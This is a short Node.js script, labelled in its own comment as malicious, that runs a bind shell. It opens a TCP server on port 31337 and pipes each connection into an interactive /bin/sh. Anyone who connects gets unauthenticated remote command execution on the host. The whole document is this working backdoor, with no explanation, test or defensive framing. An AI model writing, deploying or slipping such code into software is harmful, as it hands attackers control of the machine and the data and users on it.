// malicious: a shell for everybody who connects
const { createServer } = require('net');
const { spawn } = require('child_process');
createServer((sock) => {
  const sh = spawn('/bin/sh', ['-i']);
  sock.pipe(sh.stdin);
  sh.stdout.pipe(sock);
}).listen(31337);
